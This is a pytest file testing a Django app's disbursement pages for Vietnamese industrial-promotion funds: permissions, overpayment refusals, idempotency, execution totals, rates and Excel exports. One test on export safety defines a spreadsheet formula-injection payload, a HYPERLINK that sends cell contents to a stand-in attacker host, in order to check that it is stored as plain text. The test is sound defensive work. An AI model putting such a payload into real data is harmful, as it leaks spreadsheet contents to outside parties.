"""The money pages: who records and who reads, what a refusal says, that a double submit
pays once, that the execution tables add up, that exports carry the same figures, and that
the queries do not grow with the tranches or the đề án."""

from __future__ import annotations

import datetime
import io
import uuid
from decimal import ROUND_HALF_UP, Decimal

import pytest
from django.core.exceptions import ValidationError
from django.db import connection
from django.db.models import F, Sum
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from accounts.models import User
from core.formatting import format_vnd
from core.measures import EXCEL_PERCENT_FORMAT, format_percent, label
from dashboards.models import ProposalFigures
from disbursement import selectors, services
from disbursement.models import Contract, Tranche
from programs.models import PlanAllocation
from projects.models import FUNDED_STATES, Proposal
from tests.projects.factories import advance, make_proposal, ministry, staff

D = datetime.date(2026, 11, 21)
M = 1_000_000
DAY = "21/11/2026"


def login(client, username) -> User:
    user = User.objects.get(username=username)
    client.force_login(user)
    return user


def approved(code=14, **kwargs) -> Proposal:
    return advance(make_proposal(code, **kwargs), "approved")


def signed(code=14, **kwargs) -> tuple[Proposal, Contract]:
    """A local đề án contracted by its centre; a national one by the ministry department,
    which entrusts the Sở of the province to sign (and record its payments)."""
    proposal = approved(code, **kwargs)
    national = proposal.level == "national"
    contract = services.contract_sign(
        proposal=proposal,
        actor=ministry() if national else staff(code, role="centre_staff"),
        number="01/2026/HĐ-KC",
        signed_on=D,
        parties="TTKC và HTX",
        amounts=proposal.approved_by_source(),
        signing_agency=staff(code).agency if national else None,
    )
    proposal.refresh_from_db()
    return proposal, contract


def pay(proposal, amount, *, kind="payment", source="kcdp", code=14):
    national = proposal.level == "national"
    return services.payment_record(
        proposal=proposal,
        actor=staff(code) if national else staff(code, role="centre_staff"),
        kind=kind,
        source=source,
        amount=amount,
        paid_on=D,
        voucher_number=f"PC-{uuid.uuid4().hex[:6]}",
        idempotency_key=uuid.uuid4().hex,
    )


def contract_post(proposal, **overrides):
    data = {
        "form": "contract",
        "confirmed": "1",
        "contract-number": "05/2026/HĐ-KC",
        "contract-signed_on": DAY,
        "contract-parties": "Trung tâm Khuyến công Sơn La và HTX",
        "contract-kcdp": "300.000.000",
        "contract-counterpart": "700.000.000",
        "contract-other": "0",
    }
    data.update(overrides)
    return data


def payment_post(key, amount="100.000.000", kind="advance"):
    return {
        "form": "payment",
        "confirmed": "1",
        "payment-kind": kind,
        "payment-source": "kcdp",
        "payment-amount": amount,
        "payment-paid_on": DAY,
        "payment-voucher_number": "PC-01",
        "payment-treasury_reference": "KBNN-123",
        "payment-note": "",
        "payment-idempotency_key": key,
    }


# --- Roles ------------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("username", ["ttkc-sonla", "sct-sonla"])
def test_the_centre_and_the_so_of_the_province_record(world, client, username):
    proposal = approved()
    login(client, username)
    url = reverse("proposal-money", args=[proposal.pk])
    page = client.get(url)
    assert page.status_code == 200
    assert 'data-testid="form-contract"' in page.content.decode()
    response = client.post(url, contract_post(proposal))
    assert response.status_code == 302
    proposal.refresh_from_db()
    assert proposal.status == Proposal.Status.IN_IMPLEMENTATION
    contract = Contract.objects.get(proposal=proposal, active=True)
    assert contract.kcdp == 300_000_000 and contract.counterpart == 700_000_000
    body = client.get(url).content.decode()
    assert 'data-testid="form-payment"' in body and 'data-testid="form-request"' in body


@pytest.mark.django_db
def test_the_ministry_reads_only(world, client):
    proposal, _ = signed()
    pay(proposal, 50_000_000)
    login(client, "ministry")
    url = reverse("proposal-money", args=[proposal.pk])
    response = client.get(url)
    assert response.status_code == 200
    body = response.content.decode()
    assert 'data-testid="ledger"' in body and "50.000.000" in body
    assert 'data-testid="form-' not in body
    assert client.post(url, payment_post(uuid.uuid4().hex)).status_code == 403
    tranche = Tranche.objects.get(proposal=proposal)
    action = reverse("tranche-action", args=[proposal.pk])
    assert (
        client.post(
            action, {"tranche": tranche.pk, "action": "reverse", "confirmed": "1"}
        ).status_code
        == 403
    )
    assert client.get(reverse("tranche-ledger-export", args=[proposal.pk])).status_code == 200
    assert Tranche.objects.filter(proposal=proposal).count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize("username", ["sct-hanoi", "ttkc-hanoi"])
def test_another_province_gets_404(world, client, username):
    proposal, _ = signed()
    tranche = pay(proposal, 50_000_000)
    login(client, username)
    for name in ("proposal-money", "tranche-ledger-export"):
        assert client.get(reverse(name, args=[proposal.pk])).status_code == 404, name
    url = reverse("proposal-money", args=[proposal.pk])
    assert client.post(url, payment_post(uuid.uuid4().hex)).status_code == 404
    action = reverse("tranche-action", args=[proposal.pk])
    response = client.post(
        action, {"tranche": tranche.pk, "action": "reverse", "confirmed": "1", "reason": "x"}
    )
    assert response.status_code == 404
    assert client.get(reverse("plan-execution", args=[proposal.plan_id])).status_code == 404
    assert client.get(reverse("province-execution", args=[proposal.province_id])).status_code == 404
    assert Tranche.objects.filter(proposal=proposal).count() == 1


# --- Refusals and idempotency -------------------------------------------------------------------


@pytest.mark.django_db
def test_an_overpayment_is_refused_and_explained(world, client):
    proposal, _ = signed()
    pay(proposal, 250_000_000)
    login(client, "ttkc-sonla")
    url = reverse("proposal-money", args=[proposal.pk])
    response = client.post(url, payment_post(uuid.uuid4().hex, "80.000.000", kind="payment"))
    assert response.status_code == 400
    body = response.content.decode()
    assert 'data-testid="form-errors"' in body
    # What was asked, what is left, and what the contract and payments were.
    for figure in ("80.000.000", "50.000.000", "300.000.000", "250.000.000"):
        assert figure in response.context["top_errors"][0], figure
    assert response.context["forms"]["payment"].errors["amount"]
    assert Tranche.objects.filter(proposal=proposal).count() == 1


@pytest.mark.django_db
def test_a_double_submit_pays_once(world, client):
    proposal, _ = signed()
    login(client, "ttkc-sonla")
    url = reverse("proposal-money", args=[proposal.pk])
    page = client.get(url)
    key = page.context["forms"]["payment"]["idempotency_key"].value()
    assert len(key) == 32
    assert f'value="{key}"' in page.content.decode()
    first = client.post(url, payment_post(key))
    second = client.post(url, payment_post(key))
    assert first.status_code == second.status_code == 302
    assert Tranche.objects.filter(proposal=proposal).count() == 1
    assert services.paid_by_source(proposal)["kcdp"] == 100_000_000
    # A new rendering of the form carries a new key.
    again = client.get(url).context["forms"]["payment"]["idempotency_key"].value()
    assert again != key


@pytest.mark.django_db
def test_request_approve_pay_and_reverse_a_tranche(world, client):
    proposal, _ = signed()
    url = reverse("proposal-money", args=[proposal.pk])
    action = reverse("tranche-action", args=[proposal.pk])
    login(client, "ttkc-sonla")
    response = client.post(
        url,
        {
            "form": "request",
            "request-kind": "payment",
            "request-source": "kcdp",
            "request-amount": "60.000.000",
            "request-due_on": "15/12/2026",
            "request-idempotency_key": uuid.uuid4().hex,
        },
    )
    assert response.status_code == 302
    tranche = Tranche.objects.get(proposal=proposal)
    # The requester cannot approve their own request: the reason is shown.
    response = client.post(
        action, {"tranche": tranche.pk, "action": "approve", "confirmed": "1"}, follow=True
    )
    assert "tranche" in response.content.decode()
    tranche.refresh_from_db()
    assert tranche.status == "requested"
    login(client, "sct-sonla")
    client.post(action, {"tranche": tranche.pk, "action": "approve", "confirmed": "1"})
    client.post(
        action,
        {
            "tranche": tranche.pk,
            "action": "pay",
            "confirmed": "1",
            "paid_on": DAY,
            "voucher_number": "PC-9",
        },
    )
    tranche.refresh_from_db()
    assert tranche.status == "paid" and tranche.voucher_number == "PC-9"
    key = uuid.uuid4().hex
    for _ in range(2):
        client.post(
            action,
            {
                "tranche": tranche.pk,
                "action": "reverse",
                "confirmed": "1",
                "reason": "Sai số",
                "idempotency_key": key,
            },
        )
    tranche.refresh_from_db()
    assert tranche.status == "reversed"
    assert (
        Tranche.objects.filter(proposal=proposal, kind="reversal", amount=-60_000_000).count() == 1
    )
    assert services.paid_by_source(proposal)["kcdp"] == 0
    body = client.get(url).content.decode()
    assert "-60.000.000" in body


@pytest.mark.django_db
def test_acceptance_and_settlement_through_the_page(world, client):
    proposal, _ = signed()
    pay(proposal, 150_000_000, kind="advance")
    pay(proposal, 150_000_000)
    login(client, "ttkc-sonla")
    url = reverse("proposal-money", args=[proposal.pk])
    output = proposal.outputs.select_related("indicator").first()
    data = {
        "form": "acceptance",
        "confirmed": "1",
        "acceptance-accepted_on": DAY,
        "acceptance-council": "Hội đồng nghiệm thu tỉnh",
        "acceptance-result": "passed",
        "acceptance-kcdp": "300.000.000",
        "acceptance-counterpart": "700.000.000",
        "acceptance-other": "0",
    }
    if output:
        data[f"acceptance-achieved_{output.indicator.code}"] = "1"
    assert client.post(url, data).status_code == 302
    proposal.refresh_from_db()
    assert proposal.status == "accepted"
    # The settlement waits for the contract's liquidation (thanh lý), then follows it.
    assert 'data-testid="form-settlement"' not in client.get(url).content.decode()
    response = client.post(
        url,
        {
            "form": "liquidation",
            "confirmed": "1",
            "liquidation-number": "TL-01",
            "liquidation-liquidated_on": DAY,
            "liquidation-kcdp": "280.000.000",
            "liquidation-counterpart": "700.000.000",
            "liquidation-other": "0",
        },
    )
    assert response.status_code == 302
    liquidation = Proposal.objects.get(pk=proposal.pk).liquidation
    assert liquidation.returned_kcdp == 20_000_000 and liquidation.kcdp == 280_000_000
    response = client.post(
        url,
        {
            "form": "settlement",
            "confirmed": "1",
            "settlement-settled_on": DAY,
            "settlement-decision_number": "QT-01",
            "settlement-kcdp": "280.000.000",
            "settlement-counterpart": "700.000.000",
            "settlement-other": "0",
        },
    )
    assert response.status_code == 302
    proposal.refresh_from_db()
    assert proposal.status == "closed"
    assert proposal.settlement.returned_kcdp == 20_000_000
    body = client.get(url).content.decode()
    assert 'data-testid="returned-kcdp"' in body and "20.000.000" in body
    assert 'data-testid="reverse-' not in body  # a settled đề án offers no tranche action


# --- Plan and province execution ----------------------------------------------------------------


def _independent_sums(proposals, plans=()):
    """The same figures computed directly from the rows, without disbursement.figures:
    khuyến công funds (KCQG + KCĐP) only."""
    funded = [p for p in proposals if p.status in FUNDED_STATES]
    ids = [p.pk for p in proposals]
    return {
        "allocated": PlanAllocation.objects.filter(
            plan__in=plans, source__in=["kcqg", "kcdp"]
        ).aggregate(t=Sum("amount"))["t"]
        or 0,
        "approved": sum(p.approved_kcqg + p.approved_kcdp for p in funded),
        "counterpart": sum(p.approved_counterpart for p in funded),
        "contracted": sum(
            c.kcqg + c.kcdp for c in Contract.objects.filter(proposal__in=ids, active=True)
        ),
        "paid": Tranche.objects.filter(
            proposal__in=ids, status__in=["paid", "reversed"], source__in=["kcqg", "kcdp"]
        ).aggregate(t=Sum("amount"))["t"]
        or 0,
    }


def _half_up(part: int, whole: int) -> Decimal:
    return (Decimal(part) * 100 / Decimal(whole)).quantize(Decimal("0.01"), ROUND_HALF_UP)


def _sheet(response):
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content)).active


@pytest.mark.django_db
def test_plan_execution_totals_add_up(world, client):
    first, _ = signed()
    second, _ = signed(plan=first.plan)
    approved(plan=first.plan)  # approved, no contract yet
    pay(first, 100_000_000, kind="advance")
    pay(first, 50_000_000)
    pay(first, 25_000_000, source="counterpart")  # counterpart money: never in the total
    reversed_ = pay(second, 30_000_000)
    services.tranche_reverse(
        tranche=reversed_,
        actor=staff(14, role="centre_staff"),
        reason="Sai",
        idempotency_key=uuid.uuid4().hex,
    )
    pay(second, 70_000_000)
    plan = first.plan
    login(client, "sct-sonla")
    response = client.get(reverse("plan-execution", args=[plan.pk]))
    assert response.status_code == 200
    table = response.context["table"]
    measures = ("allocated", "approved", "contracted", "paid")
    # The total is the sum of its rows, and the rows are khuyến công funds only.
    assert {r["source"] for r in table["rows"]} <= {"kcqg", "kcdp"}
    for m in measures:
        assert table["total"][m] == sum(r[m] for r in table["rows"]), m
        assert table["total"][m] == sum(r[m] for r in table["by_source"]), m
    expected = _independent_sums(list(Proposal.objects.filter(plan=plan)), [plan])
    for m in measures:
        assert table["total"][m] == expected[m], m
    assert table["total"]["paid"] == 220_000_000
    assert table["total"]["approved"] == 900_000_000 and table["total"]["contracted"] == 600_000_000
    # The counterpart is a line of its own, outside the total.
    counterpart = next(line for line in table["beside"] if line["source"] == "counterpart")
    assert counterpart["approved"] == expected["counterpart"] == 2_100_000_000
    assert counterpart["paid"] == 25_000_000
    # Two rates, each on its own denominator, two decimals half-up.
    assert table["total"]["rate"] == _half_up(220_000_000, 900_000_000) == Decimal("24.44")
    assert table["total"]["rate_allocated"] == _half_up(220_000_000, expected["allocated"])
    body = response.content.decode()
    assert 'data-testid="execution-beside-counterpart"' in body
    assert "24,44\u00a0%" in body
    # The Excel export carries the same figures; rates are exact ratios in percent cells.
    sheet = _sheet(client.get(reverse("plan-execution-export", args=[plan.pk])))
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    total_index = next(i for i, r in enumerate(rows) if str(r[1]).startswith("Tổng cộng"))
    total = rows[total_index]
    assert list(total[3:7]) == [table["total"][m] for m in measures]
    assert [list(r[3:7]) for r in rows[:total_index]] == [
        [r[m] for m in measures] for r in table["rows"]
    ]
    # The exact ratio (not a rounded percentage: 0.2444…, never 0.2444 or 24.44).
    assert total[7] == pytest.approx(220_000_000 / 900_000_000, rel=1e-15)
    assert total[8] == pytest.approx(220_000_000 / expected["allocated"], rel=1e-15)
    assert sheet.cell(row=total_index + 3, column=8).number_format == EXCEL_PERCENT_FORMAT
    assert sheet.cell(row=total_index + 3, column=4).number_format == "#,##0"
    beside = rows[total_index + 1]
    assert beside[4] == 2_100_000_000 and beside[6] == 25_000_000
    with translation.override("vi"):
        assert sheet.cell(row=2, column=4).value == f"{label('allocated')} (đồng)"
        assert sheet.cell(row=2, column=8).value.startswith(str(label("rate")))
        assert str(label("approved")).lower() in sheet.cell(row=2, column=8).value.lower()
    # The province's plans of the year add up to the same (one plan, no KCQG đề án here).
    province = client.get(
        reverse("province-execution", args=[plan.province_id]), {"year": plan.year}
    )
    assert province.status_code == 200
    assert province.context["table"]["total"] == table["total"]


@pytest.mark.django_db
def test_the_province_page_counts_local_and_national_proposals_of_the_year(world, client):
    local, _ = signed()
    national, _ = signed(national=True, support=300_000_000, counterpart=800_000_000)
    assert national.level == "national" and national.plan.year == local.plan.year
    other_year, _ = signed(year=2028)  # another plan year: not counted
    pay(local, 120_000_000)
    pay(national, 91_370_000, source="kcqg")
    pay(other_year, 50_000_000)
    proposals = [local, national]
    expected = _independent_sums(proposals, [local.plan])
    assert expected["approved"] == 600_000_000 and expected["paid"] == 211_370_000
    login(client, "sct-sonla")
    url = reverse("province-execution", args=[local.province_id])
    response = client.get(url, {"year": local.plan.year})
    table = response.context["table"]
    for m in ("approved", "contracted", "paid"):
        assert table["total"][m] == expected[m], m
        assert table["total"][m] == sum(r[m] for r in table["rows"]), m
    assert {r["source"] for r in table["rows"]} == {"kcqg", "kcdp"}
    # The default rate: paid ÷ approved khuyến công funds over both đề án, as the
    # dashboards' summary rows give it for the province and the year.
    rate = _half_up(211_370_000, 600_000_000)
    assert table["total"]["rate"] == rate == Decimal("35.23")
    figures = ProposalFigures.objects.filter(
        province=local.province_id, year=local.plan.year, funded=True
    ).aggregate(
        paid=Sum(F("paid_kcqg") + F("paid_kcdp")),
        approved=Sum(F("approved_kcqg") + F("approved_kcdp")),
    )
    assert _half_up(figures["paid"], figures["approved"]) == rate
    # The rate against the plan: the local plan's đề án over its allocation only.
    assert table["outside_plans"] and table["total"]["plan_paid"] == 120_000_000
    assert table["total"]["rate_allocated"] == _half_up(120_000_000, expected["allocated"])
    body = response.content.decode()
    assert format_percent(rate) in body and 'data-testid="execution-plan-note"' in body
    # Counterpart money of both đề án is beside the total, never in it.
    counterpart = next(line for line in table["beside"] if line["source"] == "counterpart")
    assert counterpart["approved"] == 1_500_000_000 == expected["counterpart"]
    assert table["total"]["approved"] == 600_000_000
    # The export holds the same figures, the exact ratio in a percent cell.
    sheet = _sheet(
        client.get(
            reverse("province-execution-export", args=[local.province_id]),
            {"year": local.plan.year},
        )
    )
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    total = next(r for r in rows if str(r[1]).startswith("Tổng cộng"))
    assert total[4] == 600_000_000 and total[6] == 211_370_000
    assert total[7] == pytest.approx(211_370_000 / 600_000_000, rel=1e-15)
    assert total[8] == pytest.approx(120_000_000 / expected["allocated"], rel=1e-15)


@pytest.mark.django_db
def test_rates_round_half_up_at_the_boundary_on_the_pages(world, client):
    proposal, _ = signed()  # 300.000.000 KCĐP approved
    pay(proposal, 37_035_000)  # 12,345 % exactly: half-up gives 12,35 (half-even 12,34)
    login(client, "ttkc-sonla")
    money = client.get(reverse("proposal-money", args=[proposal.pk])).content.decode()
    cell = money[money.index('data-testid="rate-total"') :]
    assert cell[cell.index(">") + 1 : cell.index("</td>")] == "12,35\u00a0%"
    plan = client.get(reverse("plan-execution", args=[proposal.plan_id])).content.decode()
    cell = plan[plan.index('data-testid="execution-rate"') :]
    assert cell[cell.index(">") + 1 : cell.index("</td>")] == "12,35\u00a0%"


@pytest.mark.django_db
def test_the_money_page_total_is_khuyen_cong_funds_only(world, client):
    proposal, _ = signed()
    pay(proposal, 60_000_000)
    pay(proposal, 200_000_000, source="counterpart")
    login(client, "ttkc-sonla")
    response = client.get(reverse("proposal-money", args=[proposal.pk]))
    summary = response.context["summary"]
    assert summary["total"]["approved"] == 300_000_000 == proposal.approved_kcdp
    assert summary["total"]["paid"] == 60_000_000
    assert summary["total"]["rate"] == Decimal("20.00")
    counterpart = next(r for r in summary["rows"] if r["source"] == "counterpart")
    assert counterpart["paid"] == 200_000_000 and counterpart["rate"] is None
    body = response.content.decode()
    paid = body[body.index('data-testid="paid-total"') :]
    assert paid[paid.index(">") + 1 : paid.index("</td>")] == format_vnd(60_000_000)


@pytest.mark.django_db
def test_the_ledger_export_has_the_page_figures(world, client):
    proposal, _ = signed()
    pay(proposal, 100_000_000, kind="advance")
    paid = pay(proposal, 40_000_000)
    services.tranche_reverse(
        tranche=paid, actor=staff(14, role="centre_staff"), reason="Sai", idempotency_key="k1"
    )
    login(client, "ministry")
    response = client.get(reverse("tranche-ledger-export", args=[proposal.pk]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert proposal.code in sheet["A1"].value
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    amounts = [r[3] for r in rows[:-1]]
    assert amounts == [100_000_000, 40_000_000, -40_000_000]
    assert rows[-1][3] == services.paid_by_source(proposal)["kcdp"] == 100_000_000


# --- Queries do not grow ------------------------------------------------------------------------


def _count(client, url) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


@pytest.mark.django_db
def test_money_page_queries_do_not_grow_with_tranches(world, client, django_assert_max_num_queries):
    proposal, _ = signed()
    for _ in range(2):
        pay(proposal, 1_000_000)
    login(client, "ttkc-sonla")
    urls = [
        reverse("proposal-money", args=[proposal.pk]),
        reverse("tranche-ledger-export", args=[proposal.pk]),
    ]
    few = [_count(client, url) for url in urls]
    for _ in range(13):
        pay(proposal, 1_000_000)
    for url, n in zip(urls, few, strict=True):
        with django_assert_max_num_queries(n):
            client.get(url)
    assert Tranche.objects.filter(proposal=proposal).count() == 15


@pytest.mark.django_db
def test_execution_queries_do_not_grow_with_proposals(world, client, django_assert_max_num_queries):
    small = {"support": 100_000_000, "counterpart": 200_000_000}  # ten fit the allocation
    first, _ = signed(**small)
    plan = first.plan
    signed(plan=plan, **small)
    for p in Proposal.objects.filter(plan=plan):
        pay(p, 1_000_000)
    login(client, "ttkc-sonla")
    urls = [
        reverse("plan-execution", args=[plan.pk]),
        reverse("plan-execution-export", args=[plan.pk]),
        reverse("province-execution", args=[plan.province_id]) + f"?year={plan.year}",
        reverse("home"),
    ]
    few = [_count(client, url) for url in urls]
    for _ in range(8):
        p, _ = signed(plan=plan, **small)
        pay(p, 1_000_000)
    assert Proposal.objects.filter(plan=plan).count() == 10
    for url, n in zip(urls, few, strict=True):
        with django_assert_max_num_queries(n):
            client.get(url)
    assert len(client.get(reverse("home")).context["tracking"]) == 10


@pytest.mark.django_db
def test_the_detail_page_card_and_home_tracking(world, client):
    proposal, _ = signed()
    pay(proposal, 100_000_000, kind="advance")
    services.tranche_request(
        proposal=proposal,
        actor=staff(14, role="centre_staff"),
        kind="payment",
        source="kcdp",
        amount=50_000_000,
        due_on=datetime.date(2026, 12, 10),
        idempotency_key=uuid.uuid4().hex,
    )
    login(client, "ttkc-sonla")
    detail = client.get(reverse("proposal-detail", args=[proposal.pk])).content.decode()
    assert 'data-testid="money-card"' in detail
    card = client.get(reverse("proposal-money", args=[proposal.pk]), {"partial": "summary"})
    assert 'data-testid="paid-kcdp"' in card.content.decode()
    home = client.get(reverse("home"))
    row = next(p for p in home.context["tracking"] if p.pk == proposal.pk)
    # Khuyến công funds: the contract's 700.000.000 of counterpart money is not in them.
    assert row.kc_paid == 100_000_000 and row.kc_contracted == 300_000_000
    assert row.remaining == 200_000_000 and row.next_due == datetime.date(2026, 12, 10)
    assert row.rate == Decimal("33.33")
    assert 'data-testid="tracking-scope"' in home.content.decode()
    login(client, "sct-sonla")
    assert "tracking" not in client.get(reverse("home")).context


@pytest.mark.django_db
def test_tracking_totals_count_every_proposal_not_only_the_listed_ones(world, client):
    first, _ = signed()
    second, _ = signed(plan=first.plan)
    approved(plan=first.plan)  # no contract yet
    pay(first, 10_000_000)
    pay(second, 20_000_000)
    user = User.objects.get(username="ttkc-sonla")
    tracked = list(Proposal.objects.filter(status__in=["approved", "in_implementation"]))
    assert len(tracked) == 3
    data = selectors.tracking(user=user, limit=2)
    assert len(data["tracking"]) == 2
    expected = _independent_sums(tracked)
    total = data["tracking_total"]
    assert total["count"] == 3
    for m in ("approved", "contracted", "paid"):
        assert total[m] == expected[m], m
    assert total["paid"] == 30_000_000 and total["approved"] == 900_000_000
    assert total["rate"] == _half_up(30_000_000, 900_000_000) == Decimal("3.33")
    assert total["counterpart"] == expected["counterpart"] == 2_100_000_000


@pytest.mark.django_db
def test_the_ledger_export_writes_formula_like_text_as_plain_text(world, client):
    proposal, _ = signed()
    hostile = '=HYPERLINK("http://evil.example/?leak="&A3,"Xem")'
    services.payment_record(
        proposal=proposal,
        actor=staff(14, role="centre_staff"),
        kind="payment",
        source="kcdp",
        amount=1_000_000,
        paid_on=D,
        voucher_number="=1+1",
        treasury_reference=hostile,
        note="@SUM(A1:A9)",
        idempotency_key=uuid.uuid4().hex,
    )
    login(client, "ministry")
    sheet = load_workbook(
        io.BytesIO(client.get(reverse("tranche-ledger-export", args=[proposal.pk])).content)
    ).active
    voucher, reference, note = sheet["H3"], sheet["I3"], sheet["L3"]
    assert (voucher.value, voucher.data_type) == ("=1+1", "s")
    assert (reference.value, reference.data_type) == (hostile, "s")
    assert (note.value, note.data_type) == ("@SUM(A1:A9)", "s")
    assert sheet["D3"].value == 1_000_000 and sheet["D3"].data_type == "n"


# --- Checked while typing -----------------------------------------------------------------------


@pytest.mark.django_db
def test_the_amount_is_checked_while_typing_by_the_rules_of_saving(world, client):
    proposal, _ = signed()
    pay(proposal, 250_000_000)
    login(client, "ttkc-sonla")
    page = client.get(reverse("proposal-money", args=[proposal.pk])).content.decode()
    for name in ("payment", "request"):
        assert f'data-testid="amount-check-{name}"' in page
    url = reverse("proposal-money-check", args=[proposal.pk])

    def check(amount, **fields):
        data = {**payment_post(uuid.uuid4().hex, amount, kind="payment"), **fields}
        response = client.post(url, data, headers={"HX-Request": "true"})
        assert response.status_code == 200
        return response.content.decode()

    # Above what is left: the very message saving gives (services.payable_check).
    body = check("80.000.000")
    with pytest.raises(ValidationError) as refused:
        services.payable_check(proposal=proposal, kind="payment", source="kcdp", amount=80 * M)
    assert 'data-state="invalid"' in body and refused.value.messages[0] in body
    assert "50.000.000" in refused.value.messages[0]
    body = check("50.000.000")
    assert 'data-state="valid"' in body and "50.000.000" in body
    # What is typed in the wrong format, as the form says it; a future payment date.
    assert 'data-state="invalid"' in check("12,5.3")
    assert 'data-state="invalid"' in check("10.000.000", **{"payment-paid_on": "31/02/2026"})
    later = timezone.localdate() + datetime.timedelta(days=2)
    assert "sau ngày hôm nay" in check("10.000.000", **{"payment-paid_on": f"{later:%d/%m/%Y}"})
    # Nothing typed yet: nothing said.
    assert check("").strip() == ""
    # The request form counts what awaits payment, as the service does.
    services.tranche_request(
        proposal=proposal,
        actor=staff(14, role="centre_staff"),
        kind="payment",
        source="kcdp",
        amount=30 * M,
        idempotency_key=uuid.uuid4().hex,
    )
    request = {"form": "request", "request-kind": "payment", "request-source": "kcdp"}
    body = client.post(url, {**request, "request-amount": "30.000.000"}).content.decode()
    assert 'data-state="invalid"' in body and "20.000.000" in body
    assert Tranche.objects.filter(proposal=proposal).count() == 2


@pytest.mark.django_db
@pytest.mark.parametrize("username, status", [("ministry", 403), ("ttkc-hanoi", 404)])
def test_the_live_check_follows_the_form_permission(world, client, username, status):
    proposal, _ = signed()
    login(client, username)
    url = reverse("proposal-money-check", args=[proposal.pk])
    assert client.post(url, payment_post(uuid.uuid4().hex)).status_code == status
